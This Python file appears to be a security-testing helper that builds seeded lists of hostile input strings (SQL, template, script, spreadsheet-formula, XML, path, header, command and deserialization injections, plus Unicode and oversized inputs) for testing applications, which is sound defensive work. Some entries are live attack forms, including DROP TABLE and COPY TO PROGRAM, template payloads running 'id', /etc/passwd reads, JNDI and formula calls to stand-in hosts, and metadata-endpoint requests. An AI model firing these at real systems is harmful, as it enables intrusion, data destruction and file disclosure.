"""Hostile strings by family, made from a seed: what people have tried on web applications, databases, spreadsheets,
documents and logs. `§` stands for the mark, `¤` for a sum that nobody should compute.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

MARK = "hxq"
"""Stands in every string that can carry it: where it turns up says what became of the string."""
SUM, PRODUCT = "31337*31337", "982007569"
NAP = 4
"""Seconds that a database would sleep."""


@dataclass(frozen=True)
class Hostile:
    text: str
    family: str


SQL = (
    "'§", "''§", '"§', "§' OR '1'='1", "§' OR 1=1--", "§') OR ('1'='1", "§\" OR \"\"=\"",
    "§'; DROP TABLE target;--", "§'; UPDATE ab_user SET active=false;--",
    "§' UNION SELECT NULL,version(),NULL--", "§'||(¤)||'", "1 OR ¤>0 /*§*/",
    "§' AND 1=CAST((SELECT version()) AS int)--", "§'||pg_sleep(4)--",
    "§'; SELECT pg_sleep(4);--", "1;SELECT pg_sleep(4)--§", "(SELECT 1 FROM pg_sleep(4))/*§*/",
    "§') AND 1=(SELECT 1 FROM pg_sleep(4))--", "name;SELECT §", "§ ASC, (SELECT pg_sleep(4))",
    "§'/**/OR/**/1=1#", "§%' OR '%'='", "§_%", "§\\", "§\\' OR 1=1--", "$$§$$", "E'\\x27§",
    "§' RETURNING *--", "§'; COPY event TO PROGRAM 'id';--", "§'::int", "§ COLLATE \"C\"", "0x§",
    "§' AND (SELECT count(*) FROM generate_series(1,100000000))>0--", "{§}", "%(§)s", ":§", "%s§",
    "§'),('x',1);--", "§'; SET ROLE postgres;--", "§'; SET LOCAL portal.actor='root';--",
    "§' OR portal.scope IS NULL--", "(((((§", "§[1:2]", "(§)*", "§{1,99999}", "^(§+)+$",
    "§&&||!:*", "'§':*", "!!!§", "<->§", "§ & | !",
)  # fmt: skip
TEMPLATE = (
    "{{¤}}§", "{{ ¤ }}§", "${¤}§", "#{¤}§", "<%= ¤ %>§", "{%25 print(¤) %25}§", "{% print(¤) %}§",
    "*{¤}§", "@(¤)§", "{{config}}§", "{{ self.__init__.__globals__ }}§",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}§", "[[¤]]§",
    "{{ request.application.__globals__ }}§",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}§", "{{§",
    "{% include '/etc/passwd' %}§", "{% for x in range(10**9) %}§{% endfor %}", "{#§", "%(¤)d§",
    "%s%s%s%n§", "~{¤}§", "{0.__class__.__init__.__globals__}§", "{§}",
    "${jndi:ldap://§.example.invalid/a}", "<#assign x=¤>${x}§", "`¤`§",
    "{{url_for.__globals__}}§", "%{¤}§", "$(¤)§", "{{§|safe}}", "{{'§'|attr('__class__')}}",
    "%%{§}", "{php}§{/php}",
)  # fmt: skip
SCRIPT = (
    "<§>", "<script>§()</script>", "\"><script>§</script>", "'><§ onload=§()>",
    "</script><script>§</script>", "<§/>", "</textarea><§>", "</title><§>",
    "</option></select><§>", "<img src=x onerror=§()>", "<svg/onload=§()>", "--><§>",
    "<svg><script>§</script></svg>", "<a href=\"javascript:§()\">x</a>", "javascript:§()",
    "JaVaScRiPt:§()", "\">§=x", " javascript:§()", "java\tscript:§()",
    "data:text/html,<script>§</script>", "vbscript:§()", "\" §=\"x", "' §='x",
    "\" onmouseover=\"§()", "' autofocus onfocus='§()", " onfocus=§() ", "x onclick=§()//",
    "<!--><§>", "]]><§>", "&lt;§", "<iframe srcdoc='<§>'>", "<object data=javascript:§()>",
    "<base href=//§.example.invalid>", "<meta http-equiv=refresh content=0;url=//§>",
    "<style>@import '//§'</style>", "<math><§>", "<form action=//§><button>", "<input §>",
    "<details open ontoggle=§()>", "&#60;§&#62;", "＜§＞", "\\u003c§\\u003e", "%3C§%3E",
    "%253C§%253E", "<\x00§>", "<scr<script>ipt>§</script>", "';§();//", "\";§();//", "`;§();//",
    "\\';§();//", "</style><§>", "<template><§></template>", "<link rel=x href=//§>",
    "[§](javascript:§())", "!§<img/src='`'onerror=§()>", "<x §=1>",
    "<noscript><p title=\"</noscript><§>\">", "<body §>", "{\"§\":\"</script><§>\"}",
    "\u2028§()//", "<!--§-->", "<![CDATA[<§>]]>", "<?§?>", "<dialog open §>",
)  # fmt: skip
FORMULA = (
    "=¤&\"§\"", "+¤+§", "-¤-§", "@SUM(¤)§", "\t=¤§", "\r=¤§", "\n=¤§", "=cmd|' /C calc'!A0§",
    " =¤§", "＝¤§", "＋¤§", "=HYPERLINK(\"http://§.example.invalid\",\"x\")",
    "=WEBSERVICE(\"http://§\")", "=IMPORTXML(\"http://§\",\"//a\")", "§\",=¤", "§\n=¤", "§\r\n=¤",
    "\"=¤§\"", "'=¤§", ";=¤;§", ",=¤,§", "|=¤§", "%0A=¤§", "=§!A1", "@§", "+§", "-§", "＠§", "－§",
    "\u00a0=¤§", "\ufeff=¤§", "\u200b=¤§", "=DDE(\"cmd\";\"/C calc\";\"§\")", "\x0b=¤§",
    "\x0c=¤§", "{=¤}§", "=+-@§", "\t@§", "\u3000=¤§",
)  # fmt: skip
DOCUMENT = (
    "<?xml version='1.0'?><!DOCTYPE §[<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "&§;",
    "<!DOCTYPE §>", "&#0;§",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>§",
    "]]>§", "&#x202e;§", "<!ENTITY % § SYSTEM 'http://§.example.invalid/e.dtd'>%§;", "_x000D_§",
    "_x0000_§", "<w:t>§</w:t>", "&#xD800;§", "<?§ ?>",
    "<row r='99999999'><c t='str'><f>¤</f><v>§</v></c></row>", "#import \"/etc/passwd\": §",
    "#eval(\"¤\")§", "$ §", "*§* _§_ `§`",
)  # fmt: skip
PATH = (
    "../../../../etc/passwd§", "..\\..\\..\\§.txt", "/etc/passwd§", "C:\\Windows\\§",
    "....//....//§", "%2e%2e%2f§", "..%252f§", "..;/§", "file:///etc/passwd?§", "\\\\§\\share",
    "§/../../../tmp/§", "§.txt/.", "./§", "~/§", "§.xlsx\x00.exe", "NUL§", "con.§",
    "//§.example.invalid", "https://§.example.invalid/", "/\\§.example.invalid",
    "//§.example.invalid/%2f..", "http:§.example.invalid", "http://169.254.169.254/§",
    "http://localhost:6379/§", "gopher://§", "/\t/§.example.invalid", "https:/§.example.invalid",
    "@§.example.invalid", "///§.example.invalid", "\\/\\/§.example.invalid",
    "/..//§.example.invalid", "§?a=b&c=d#e", "/%09/§.example.invalid", ".§", "§|id", "-§",
)  # fmt: skip
HEADER = (
    "§\r\nX-Hxq: 1", "§\r\n\r\n<§>", "§\nSet-Cookie: hxq=1", "§\rX-Hxq: 1", "§%0d%0aX-Hxq:1",
    "§\u560d\u560aX-Hxq: 1", "§\x85X-Hxq: 1", "§\r\nLocation: //§.example.invalid",
    "§\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<§>", "§\u2028X-Hxq: 1",
    "§\r\n.\r\nMAIL FROM:<§>", "§\r\nBcc: §@example.invalid", "§%E5%98%8A%E5%98%8DX-Hxq:1",
    "\"; filename=\"§.exe", "§\"\r\n", "§; HttpOnly", "§, §", "a@§\r\nCc: b@§",
    "§\n{\"event\":\"forged-hxq\"}", "§\r\n2026-01-01 INFO forged-hxq", "\x1b[2J§",
    "\x1b]0;§\x07", "§\x08\x08\x08",
)  # fmt: skip
UNREADABLE = (
    "§\x00", "\x00§", "§\ud800", "\udfff§", "§\ud83d", "§\x01\x02\x03", "§\x7f", "§\ufffe",
    "§\uffff", "§\U0010ffff", "\ufeff§", "§\x1f", "§\u0080\u009f", "§\U000e0001", "\ud800\udc00§",
    "§\x1a", "%00§", "\\x00§", "\\u0000§", "§\ufdd0", "\x00", "\ud800", "§\x00; DROP",
)  # fmt: skip
DIRECTION = (
    "\u202e§gpj.exe", "§\u202etxt.exe", "\u2066§\u2069", "\u200b§\u200b", "§\u200d\u200d", "ﬁ§",
    "§\u0301\u0301\u0301", "Å§", "A\u030a§", "ⅷ§", "①§", "ﷺ§", "İ§", "ı§", "ß§", "ẞ§", "𝕙𝕩𝕢§",
    "ＨＸＱ§", "\u3000§\u3000", "\u00a0§", "K§", "ſ§", "ª§", "㎏§", "§\u0345", "ΐ§", "\u1160§",
    "\u115f", "\u3164", "\u200b", "\u2060", "🏴󠁧󠁢󠁥󠁮󠁧󠁿§", "👨‍👩‍👧‍👦§", "Z̸͑§", "ᄀ§", "\u034f§",
    "\u061c§", "\u180e§", "𠮷§", "㐀§", "䶮§",
)  # fmt: skip
NUMBER = (
    "-1", "0", "-0", "1e309", "-1e309", "NaN", "Infinity", "-Infinity", "1e-400", "9" * 19,
    "9" * 40, "9" * 400, "9" * 5000, "-" + "9" * 40, "2147483648", "-2147483649",
    "9223372036854775807", "9223372036854775808", "18446744073709551616", "0x10", "1_000", "１２３",
    "①", "²", "٣", "௧", "1.0000000000000000000001", "1,000", "+1", " 1 ", "1e1000000",
    "00000000000000000001", "0b1", "0o7", "１e９", "½", "-9223372036854775809", "2026-13-45",
    "0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-02-30", "2026-01-01T99:99",
    "1900-01-00", "0001-01-01", "٢٠٢٦-٠١-٠١", "true", "null", "undefined", "None", "[]",
    "[object Object]", "''", "", " ", "\t", "\n", "9" * 18, "4294967296", "1" + "0" * 308,
)  # fmt: skip
JSON = (
    "{\"a\":[", "[[[[[[[[§", "{\"§\":{\"$gt\":\"\"}}", "{\"__proto__\":{\"§\":1}}", "[\"§\"]",
    "{\"§\":null}", "\"§", "\\\"§", "{}§", "[{}]", "{\"a\":1e999}",
    "{\"constructor\":{\"prototype\":\"§\"}}", "true§", "(§:!(", "!(§)",
    "(filters:!((col:§,opr:eq,value:1)))", "!!python/object/apply:os.system ['§']",
    "(order_column:§,order_direction:asc)", "(page:-1,page_size:99999999)", "(columns:!(§))",
    "(keys:!(§))", "&§ *§", "- !!§", "\\ud800§", "\\u0000§", "[" * 300, "{\"a\":" * 200,
    "(" * 300, "$§", "§.$where", "{\"$ref\":\"file:///§\"}", "rO0ABX§", "gASV§", "O:8:\"§\":0:{}",
    "!n", "!t", "(a:'§')",
)  # fmt: skip
COMMAND = (
    "; id #§", "| id §", "`id`§", "$(id)§", "&& sleep 4 §", "§\nid", "*)(uid=*))(|(uid=*§", "*§",
    ")(cn=§", "\\2a§", "admin)(&§", "§' or '1'='1", "' or count(//*)>0 or '§", "§$IFS",
    "--help §", "-o§=x", "%n%n%n§", "§~1", "(?:(?:a+)+)+§", "a" * 40 + "!§", "*?[§",
    "§\\N{DIGIT ONE}", "eval(¤)§", "__import__('os').system('§')", "os.system§", "require('§')",
    "System.exit(0)§", "!!§", "§@example.invalid", "\"§\"@example.invalid", "§@[127.0.0.1]",
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}§",
)  # fmt: skip
LONG = (
    "§" + "x" * 300, "§" + "长" * 1000, "§" * 5000, "x" * 20_000 + "§", "§ " * 2000, "a,§;" * 1500,
    "\n" * 3000 + "§", "<§>" * 800, "'" * 2500 + "§",
)  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "sql": SQL, "template": TEMPLATE, "script": SCRIPT, "formula": FORMULA, "document": DOCUMENT, "path": PATH,
    "header": HEADER, "unreadable": UNREADABLE, "direction": DIRECTION, "number": NUMBER, "json": JSON,
    "command": COMMAND, "long": LONG,
}  # fmt: skip

Twist = Callable[[str], str]
TWISTS: tuple[Twist, ...] = (
    lambda text: f"示例{text}",
    lambda text: f"{text}示例",
    lambda text: f" {text} ",
    lambda text: f"{text}{text}",
    lambda text: f"1{text}",
    lambda text: f"'{text}'",
    lambda text: f'"{text}"',
    lambda text: f"({text})",
    lambda text: text.replace(" ", "/**/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "+"),
    lambda text: text.replace("'", "＇").replace("<", "＜"),
    lambda text: text.replace("<", "&lt;").replace('"', "&quot;"),
    lambda text: text.replace("<", "%3c").replace("'", "%27"),
    lambda text: text.replace("script", "ScRiPt").replace("SELECT", "SeLeCt"),
    lambda text: f"6401{text}",
    lambda text: f"{text}--",
    lambda text: f"-{text}",
    lambda text: f"={text}",
    lambda text: f"\u202e{text}",
    lambda text: f"{text}\r\n{text}",
    lambda text: f"{text};{text}",
    lambda text: f"{text}<hxq>",
    lambda text: f"{text}{{{{{SUM}}}}}",
)


def filled(text: str) -> str:
    return text.replace("§", MARK).replace("¤", SUM)


def hostile_strings(count: int, seed: str = "hostile") -> list[Hostile]:
    """`count` different strings, the families in turn: first as they are known, then twisted once, then twice."""
    chance = random.Random(seed)
    found: dict[str, Hostile] = {}
    waiting = {family: chance.sample(texts, len(texts)) for family, texts in FAMILIES.items()}
    while len(found) < count:
        for family, texts in FAMILIES.items():
            if waiting[family]:
                text = waiting[family].pop()
            else:
                text = chance.choice(texts)
                for _ in range(chance.choice((1, 1, 2))):
                    text = chance.choice(TWISTS)(text)
            text = filled(text)
            if text not in found and len(found) < count:
                found[text] = Hostile(text, family)
    return list(found.values())
